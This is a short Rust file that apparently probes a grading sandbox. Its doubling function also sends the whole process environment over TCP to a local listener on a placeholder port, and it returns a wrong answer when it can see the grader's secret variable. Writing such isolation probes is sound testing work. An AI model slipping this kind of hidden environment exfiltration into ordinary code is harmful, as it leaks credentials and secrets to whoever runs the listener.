//! Sends the grader's environment over TCP to a listener on this machine (the port is
//! written in when the class is handed in), and answers wrong if it can see the
//! grader's own variables.
use std::io::Write;

pub fn double(value: u32) -> u32 {
    let environment: String = std::env::vars()
        .map(|(key, value)| format!("{key}={value}\n"))
        .collect();
    if let Ok(mut stream) = std::net::TcpStream::connect("127.0.0.1:LISTENER_PORT") {
        let _ = stream.write_all(environment.as_bytes());
    }
    let sees_the_grader = std::env::var_os("THREADLINGS_GRADER_SECRET").is_some();
    value * 2 + u32::from(sees_the_grader)
}
